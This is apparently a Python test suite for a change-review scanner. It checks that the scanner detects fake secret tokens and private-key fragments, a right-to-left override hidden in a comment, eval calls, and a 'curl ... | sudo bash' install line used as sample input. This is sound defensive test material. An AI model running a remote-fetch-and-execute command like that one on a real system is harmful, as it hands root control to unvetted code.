from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.checks import ChangedFile, Rules, blocked, marks
from tests.rooms.checks.builders import added, found, modified, said

TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
SECRETS = [
    TOKEN,
    "AKIA" + "QWERTYUIOPASDFGH",
    "-----BEGIN RSA PRIVATE" + " KEY-----" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEA",
    "xoxb-" + "123456789012-1234567890123-abcdefghijklmnopqrstuvwx",
    "sk_live_" + "abcdefghijklmnopqrstuvwx",
    "sk-ant-" + "api03-abcdefghijklmnopqrstuvwxyz",
]


@pytest.mark.parametrize("secret", SECRETS)
def test_a_token_blocks_and_is_never_shown(secret: str) -> None:
    findings = found(added("src/settings.py", f"A = 1\nKEY = '{secret}'\n"))
    assert said(findings)[0] == ("block", "secrets", "src/settings.py", 2)
    assert all(secret[8:] not in finding.message for finding in findings)
    assert blocked(found(added("x.js", "x" * 4321 + f" '{secret}' " + "y" * 9000)))


def test_a_token_in_a_test_asks_for_a_person() -> None:
    findings = found(added("tests/test_x.py", f"KEY = '{TOKEN}'\n"))
    assert not blocked(findings)
    assert marks(findings) == {"needs-human"}


def test_what_was_there_or_is_only_an_example_is_no_secret() -> None:
    assert found(modified("a.py", f"K = '{TOKEN}'\nx\n", f"y\nK = '{TOKEN}'\n")) == []
    assert not blocked(found(added("a.py", "K = 'AKIAIOSFODNN7EXAMPLE'\n")))
    assert not blocked(found(added("a.py", "password = os.environ['PASSWORD']\n")))


def test_something_like_a_password_is_a_note() -> None:
    findings = found(added("a.py", "password = 'correct horse battery'\n"))
    assert said(findings) == [("note", "secrets", "a.py", 1)]


def test_risky_lines_hidden_characters_and_unreadable_files_are_pointed_out() -> None:
    findings = found(
        added("install.sh", "curl -s https://x.example | sudo bash\n"),
        added("a.py", "x = eval(text)\n"),
        added("b.py", "if admin:  # \u202e check\n    pass\n"),
        added("logo.png", b"\x89PNG\0"),
        added("app.min.js", "x\n"),
        modified("package-lock.json", "a\n", "b\n"),
        added("tests/test_e.py", "def test_e():\n    eval('1')\n"),
        added("link", b"install.sh", mode="120000"),
    )
    assert [(f.level, f.check, f.path) for f in findings] == [
        ("mark", "hidden-characters", "b.py"),
        ("note", "pattern", "a.py"),
        ("note", "generated", "app.min.js"),
        ("note", "pattern", "install.sh"),
        ("note", "link", "link"),
        ("note", "binary", "logo.png"),
        ("note", "lock-file", "package-lock.json"),
    ]


ODD = [b"", b"\0", b"\xff\xfe", b"(" * 5000, b"def f(" * 3000, b"[" * 9000, b"a = " + b"-" * 20_000 + b"1\n", b"\r\n\r"]
NAMES = ["a.py", "tests/test_a.py", "package.json", "x.test.js", ".github/lamplighter.yml", "Makefile", "a_test.go"]
contents = st.binary(max_size=400) | st.sampled_from([*ODD, b'{"a":' * 5000])
names = st.sampled_from([*NAMES, "caf\udce9.py", "b.txt", "setup.cfg"])


@settings(max_examples=150)
@given(names, contents, contents, st.sampled_from(["modify", "add", "delete", "mode"]))
def test_any_content_is_survived(path: str, old: bytes, new: bytes, kind: str) -> None:
    file = ChangedFile(path=path, kind=kind, mode="100644", old_mode="100644", size=len(new),
                       old=None if kind == "add" else old, new=None if kind == "delete" else new)  # fmt: skip
    for finding in found(file, base=("pyproject.toml",)):
        assert finding.level in {"block", "mark", "note"}
        assert finding.message


@pytest.mark.timeout(120)  # seconds are needed; the square of its length would take hours
def test_a_huge_change_is_scanned() -> None:
    text = "".join(f"value_{n} = compute({n}, 'text {n}')  # password of nobody\n" for n in range(40_000))
    found(added("big.py", text), added("min.js", "a=b;" * 100_000), rules=Rules(max_bytes=10**9))


HEADER = "-----BEGIN PRIVATE KEY-----"
BODY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"


@pytest.mark.parametrize(
    ("text", "line"),
    [
        (
            f'BEGIN = "{HEADER}"\n\n\ndef first():\n    return BEGIN\n\n\ndef second():\n    return BEGIN + "\\n"\n',
            None,
        ),
        (f"if text.startswith('{HEADER}'):\n    pass\n", None),
        (f'A = 1\nKEY = """{HEADER}\n{BODY}\n{BODY}\n-----END PRIVATE KEY-----"""\n', 2),
        (f'KEY = "{HEADER}\\n{BODY}\\n"\n', 1),
        (f"{HEADER}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,00\n\n{BODY}\n", 1),
    ],
)
def test_a_header_of_a_key_is_no_key_and_a_key_is_named_with_its_line_and_rule(text: str, line: int | None) -> None:
    findings = found(added("src/markers.py", text))
    assert said(findings)[:1] == ([("block", "secrets", "src/markers.py", line)] if line else [])
    assert line is None or "rule: Private Key" in findings[0].message
